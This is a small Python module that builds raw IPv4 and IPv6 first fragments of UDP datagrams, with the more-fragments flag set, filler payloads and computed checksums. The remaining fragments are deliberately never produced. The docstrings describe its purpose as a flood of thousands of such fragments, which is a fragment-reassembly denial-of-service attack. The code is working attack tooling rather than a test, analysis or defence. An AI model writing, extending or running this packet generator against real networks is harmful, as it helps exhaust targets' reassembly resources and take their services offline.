"""First parts of datagrams in two, without scapy: of some a flood sends thousands."""

import socket
import struct
from collections.abc import Iterator

_BODY = b"z" * 1400
"""What is behind the IP headers of a first part: a multiple of 8 bytes."""
_UDP = 17


def first_parts(source: str, target: str, numbers: range) -> Iterator[bytes]:
    """The first part of each datagram of UDP, as an IP packet; its rest never comes."""
    return (_part(source, target, number) for number in numbers)


def _part(source: str, target: str, number: int) -> bytes:
    if ":" in source:
        ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
        fragment = struct.pack("!BBHI", _UDP, 0, 1, number)
        return struct.pack("!IHBB", 6 << 28, len(fragment) + len(_BODY), 44, 64) + ends + fragment + _BODY
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(_BODY), number, 0x2000, 64, _UDP, 0) + ends
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return header[:10] + struct.pack("!H", ~total & 0xFFFF) + header[12:] + _BODY
